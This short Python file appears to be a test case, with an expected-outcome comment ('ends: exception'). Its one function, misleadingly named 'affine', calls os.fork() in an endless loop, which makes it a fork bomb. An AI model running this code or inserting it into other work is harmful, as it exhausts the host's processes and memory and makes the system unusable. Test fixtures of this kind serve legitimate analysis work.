# Starts processes that start processes.
# ends: exception
import os


def affine(x):
    while True:
        os.fork()
